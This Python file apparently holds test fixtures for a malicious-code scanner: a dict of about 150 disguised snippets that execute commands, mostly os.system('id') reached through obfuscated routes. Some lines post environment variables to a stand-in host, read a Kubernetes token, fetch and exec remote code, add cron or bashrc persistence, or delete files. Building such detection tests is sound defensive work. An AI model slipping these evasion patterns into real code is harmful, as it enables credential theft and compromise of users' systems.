"""Python modules that act while they are imported or used, each in another disguise. None is ever imported."""

HOSTILE = {
    "reduce-getattr": "from functools import reduce\nimport os\nreduce(getattr, ['system'], os)('id')",
    "fabric": "import invoke\ninvoke.run('id')",
    "pexpect-run": "import pexpect\npexpect.run('id')",
    "sh": "import sh\nsh.curl('http://example.invalid')",
    "easy-install": "from setuptools.command import easy_install\neasy_install.main(['x'])",
    "docker": "import docker\ndocker.from_env().containers.run('x')",
    "log-http": "import logging.handlers as h\nh.HTTPHandler('example.invalid', '/')",
    "git-clone": "import git\ngit.Repo.clone_from('http://example.invalid/x', '/tmp/x')",
    "ort-library": "import onnxruntime as o\no.SessionOptions().register_custom_ops_library('./x.so')",
    "sqlite-extension": "import sqlite3\nc = sqlite3.connect(':memory:')\nc.load_extension('./x.so')",
    "cython-inline": "import cython\ncython.inline('x')",
    "pyximport": "import pyximport\npyximport.install()",
    "rpy2": "import rpy2.robjects as r\nr.r('system(\"id\")')",
    "sympify": "import sympy\nsympy.sympify(x)",
    "dill-session": "import dill\ndill.load_session('x')",
    "loader-replaced": "import torch\ntorch.load = print",
    "import-replaced": "import builtins\nbuiltins.__import__ = print",
    "meta-path": "import sys\nsys.meta_path.insert(0, x)",
    "path-of-download": "import sys, huggingface_hub as h\nsys.path.append(h.snapshot_download('a/b'))",
    "service-account": "open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()",
    "registry-run": "import winreg\nwinreg.SetValueEx(k, 'x', 0, 1, 'calc')",
    "unsafe-keras": "import keras\nkeras.config.enable_unsafe_deserialization()",
    "dunder-method": "import os\nclass M:\n    def __len__(self):\n        os.system('id')",
    "tie-weights": "import os\nclass M:\n    def tie_weights(self):\n        os.system('id')",
    "picture-address-unknown": "import requests\nfrom PIL import Image\nImage.open(requests.get(u, stream=True).raw)",
    "star": "from os import *\nsystem('id')",
    "dunderimportdyn2": "__import__(bytes([111,115]).decode()).system('id')",
    "lambda": "f=lambda: __import__('os').system('id')\nf()",
    "lambda2": "(lambda: __import__('os').system('id'))()",
    "ctypes3": "import ctypes\nctypes.cdll['libc.so.6'].system(b'id')",
    "ctypes4": "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'x')",
    "decorator2": "import os\n@(lambda f: os.system('id'))\ndef f(): pass",
    "modgetattr": "import os\ndef __getattr__(n): os.system('id')",
    "annot": "import os\ndef f(x: os.system('id')): pass",
    "ret": "import os\ndef f() -> os.system('id'): pass",
    "property": "import os\nclass A:\n  @property\n  def x(self): os.system('id')\nA().x",
    "thread": "import os,threading\nthreading.Thread(target=os.system,args=('id',)).start()",
    "threadfn": "import os,threading\ndef f(): os.system('id')\nthreading.Thread(target=f).start()",
    "atexit": "import os,atexit\natexit.register(os.system,'id')",
    "atexit2": "import os,atexit\n@atexit.register\ndef f(): os.system('id')",
    "map": "import os\nlist(map(os.system,['id']))",
    "partial": "import os,functools\nfunctools.partial(os.system,'id')()",
    "walrus": "import os\n(s:=os.system)('id')",
    "attralias": "import os\nclass C: pass\nC.s=os.system\nC.s('id')",
    "dictalias": "import os\nd={'s':os.system}\nd['s']('id')",
    "listalias": "import os\nd=[os.system]\nd[0]('id')",
    "tuplealias": "import os\na,b=os.system,1\na('id')",
    "retfn": "import os\ndef g(): return os.system\ng()('id')",
    "argfn": "import os\ndef g(f): f('id')\ng(os.system)",
    "excepthook": "import sys,os\nsys.excepthook=lambda *a: os.system('id')",
    "varsos": "import os\nvars(os)['system']('id')",
    "subclasses": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0]('id')",
    "subclasses2": "().__class__.__bases__[0].__subclasses__()[140].__init__.__globals__['system']('id')",
    "attrgetter": "import os,operator\noperator.attrgetter('system')(os)('id')",
    "methodcaller": "import os,operator\noperator.methodcaller('system','id')(os)",
    "write3": "from pathlib import Path\nPath('x').open('w').write('x')",
    "osopen": "import os\nfd=os.open('/tmp/x',os.O_WRONLY|os.O_CREAT)\nos.write(fd,b'x')",
    "asyncioopen": "import asyncio\nasync def f(): await asyncio.open_connection('x',1)\nasyncio.run(f())",
    "multiproc": "import multiprocessing,os\nmultiprocessing.Process(target=os.system,args=('id',)).start()",
    "executor": "import os\nfrom concurrent.futures import ThreadPoolExecutor as T\nT().submit(os.system,'id')",
    "weakref": "import weakref,os\nweakref.finalize(object,os.system,'id')",
    "settrace": "import sys,os\nsys.settrace(lambda *a: os.system('id'))",
    "metapath": (
        "import sys\nclass F:\n  def find_spec(self,*a): import os; os.system('id')\nsys.meta_path.insert(0,F())"
    ),
    "monkey": "import torch,os\ntorch.load=lambda *a,**k: os.system('id')",
    "builtmonkey": "import builtins,os\nbuiltins.open=lambda *a: os.system('id')",
    "ipython": "get_ipython().system('id')",
    "tfwrite": "import tensorflow as tf\ntf.io.write_file('/x','y')",
    "tfpy": "import tensorflow as tf\ntf.io.gfile.GFile('/x','w').write('x')",
    "webbrowser": "import webbrowser\nwebbrowser.open('http://x')",
    "dns": "import socket\nsocket.gethostbyname('x.evil.com')",
    "funccode": "def f(): pass\nf.__code__=f.__code__.replace(co_code=b'x')\nf()",
    "importer": (
        "import importlib.util\n"
        "s=importlib.util.spec_from_file_location('x','/tmp/x.py');m=importlib.util.module_from_spe"
        "c(s);s.loader.exec_module(m)"
    ),
    "srcloader": "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x','x.py').load_module()",
    "zipimport": "import zipimport\nzipimport.zipimporter('x.zip').load_module('m')",
    "numpyload": "import numpy as np\nnp.load('x.npy',allow_pickle=True)",
    "pandas": "import pandas as pd\npd.read_pickle('x')",
    "cond import": "m=__import__('os' if 1 else 'x')\nm.system('id')",
    "exec list": "[exec][0]('import os')",
    "exec map": "list(map(exec,['import os']))",
    "hook": (
        "import os\n"
        "class M:\n"
        "  def __init__(self): self.register_forward_hook(self.h)\n"
        "  def h(self,*a): os.system('id')"
    ),
    "setup": (
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "import os\n"
        "class I(install):\n"
        "  def run(self): os.system('id')\n"
        "setup(cmdclass={'install':I})"
    ),
    "conftest": "import os\ndef pytest_configure(config): os.system('id')",
    "type call": "type('X',(),{'__init__':lambda s: __import__('os').system('id')})()",
    "enter": (
        "import os\nclass A:\n  def __enter__(self): os.system('id')\n  def __exit__(self,*a): pass\nwith A(): pass"
    ),
    "iter": "import os\nclass A:\n  def __iter__(self): os.system('id')\nlist(A())",
    "getitem2": "import os\nclass A:\n  __getitem__=staticmethod(os.system)\nA['id']",
    "classgetitem": "import os\nclass A:\n  __class_getitem__=os.system\nA['id']",
    "add": "import os\nclass A:\n  def __add__(self,i): os.system(i)\nA()+'id'",
    "eq": "import os\nclass A: pass\nA.__eq__=lambda s,o: os.system(o)\nA()=='id'",
    "sorted": "import os\nsorted(['id'],key=os.system)",
    "filter": "import os\nany(filter(os.system,['id']))",
    "reduce": "import os,functools\nfunctools.reduce(lambda a,b: os.system(b),['x','id'])",
    "itert": "import os,itertools\nlist(itertools.starmap(os.system,[('id',)]))",
    "os path import": "import os.path as p\np.os.system('id')",
    "shutil os": "import shutil\nshutil.os.system('id')",
    "random _os": "import random\nrandom._os.system('id')",
    "subproc star": "from subprocess import *\nPopen('id')",
    "six": "import six\nsix.moves.builtins.exec('import os')",
    "code": "import code\ncode.InteractiveConsole().runcode('x')",
    "pdb": "import pdb\npdb.run('import os')",
    "trace": "import trace\ntrace.Trace().run('import os')",
    "bdb": "import bdb\nbdb.Bdb().run('x')",
    "init-post": (
        "import requests,os\nclass M:\n  def __init__(self): requests.post('http://x',json=dict(os.environ))"
    ),
    "init-get-env": "import requests,os\nclass M:\n  def __init__(self): requests.get('http://x',params=os.environ)",
    "init-sock": "import socket\nclass M:\n  def forward(self,x):\n    s=socket.socket(); s.connect(('1.1.1.1',1))",
    "cron": "class M:\n  def __init__(self):\n    open('/etc/cron.d/x','w').write('x')",
    "bashrc": "import os\nclass M:\n  def __init__(self):\n    open(os.path.expanduser('~/.bashrc'),'a').write('x')",
    "pickle-const": "import pickle\nclass M:\n  def __init__(self): pickle.loads(b'cos\\nsystem\\n.')",
    "pickle-b64": "import pickle,base64\nclass M:\n  def forward(self,x): pickle.loads(base64.b64decode('AAAA'))",
    "shellcode": "import ctypes\nclass M:\n  def __init__(self):\n    f=ctypes.CFUNCTYPE(ctypes.c_int)(0x1); f()",
    "dunder-call": "import os\nos.system.__call__('id')",
    "getattribute": "import os\nos.__getattribute__('system')('id')",
    "objgetattribute": "import os\nobject.__getattribute__(os,'system')('id')",
    "modules-get": "import sys\nsys.modules.get('os').system('id')",
    "dict-get": "import os\nos.__dict__.get('system')('id')",
    "reduce-method": "import os\nclass E:\n  def __reduce__(self): return (os.system,('id',))",
    "eval-dunder-call": 'eval.__call__(\'__import__("os").system("id")\')',
    "with-urlopen": "from urllib.request import urlopen\nwith urlopen('http://x') as r: exec(r.read())",
    "global": "import os\nglobals().update(s=os.system)\ns('id')",
    "setattr": "import os,torch\nsetattr(torch,'load',os.system)",
    "del-sub": "import subprocess as s\ns.__dict__['Popen']('id')",
    "or": "import os\n(None or os.system)('id')",
    "chained": "from os import path\npath.os.system('id')",
    "cls-attr-fn": "import os\nclass A:\n  f=lambda self: os.system('id')\nA().f()",
    "cached": "import os,functools\nclass A:\n  @functools.cached_property\n  def f(self): os.system('id')\nA().f",
    "breakpointhook": "import os,sys\nsys.breakpointhook=os.system\nbreakpoint('id')",
    "site": "import site\nsite.addsitedir('/tmp')",
    "pkgutil": "import pkgutil\npkgutil.resolve_name('os:system')('id')",
    "pydoc": "import pydoc\npydoc.locate('os.system')('id')",
    "imp-from-string": "from importlib import import_module\ngetattr(import_module('os'),'system')('id')",
    "loader": "__loader__.load_module('os').system('id')",
    "mro": "''.__class__.__mro__[1].__subclasses__()",
    "frame": "import sys\nsys._getframe().f_builtins['eval']('1+f()')",
    "exec-join": "exec('\\n'.join(['import os','os.system(\"id\")']))",
    "exec-doc": "'''import os;os.system(\"id\")'''\nexec(__doc__)",
    "xor": "exec(''.join(chr(ord(c)^3) for c in 'jnslqw#lp'))",
    "decode-utf7": "exec('+AGkAbQBwAG8AcgB0-'.encode().decode('utf-7'))",
    "type-params-again": "import os\nx=[os][0].system('id')",
    "dict-again": "import os\n{'o':os}['o'].system('id')",
    "attr-of-obj-again": "import os\nclass N: o=os\nN.o.system('id')",
    "self-os-again": "import os\nclass N:\n  def __init__(self): self.o=os; self.o.system('id')",
    "subscript-mod-again": "mods=[__import__('os')]\nmods[0].system('id')",
    "for-mod-again": "import os\nfor m in [os]: m.system('id')",
    "fn-returns-mod-again": "def g():\n  import os\n  return os\ng().system('id')",
    "fn-param-mod-again": "import os\ndef g(o): o.system('id')\ng(os)",
    "env-again": "import os\nos.environ['LD_PRELOAD']='/tmp/x.so'",
    "glob-rm-again": "import pathlib\n[p.unlink() for p in pathlib.Path('/').glob('*')]",
    "import-hook-again": (
        "import builtins,os\n"
        "_i=builtins.__import__\n"
        "def h(*a,**k):\n"
        "  os.system('id'); return _i(*a,**k)\n"
        "builtins.__import__=h"
    ),
    "gc-callback-again": "import gc,os\ngc.callbacks.append(lambda *a: os.system('id'))",
    "default-factory-again": (
        "import os\n"
        "from dataclasses import dataclass,field\n"
        "@dataclass\n"
        "class C:\n"
        "  x:int=field(default_factory=lambda: os.system('id'))\n"
        "C()"
    ),
    "fernet-again": "from cryptography.fernet import Fernet\nexec(Fernet(b'x').decrypt(b'y'))",
    "hex-split-again": "exec(bytes(int(x,16) for x in '69 6d'.split()))",
    "dir-idx-again": "import os\ngetattr(os,dir(os)[42])('id')",
}
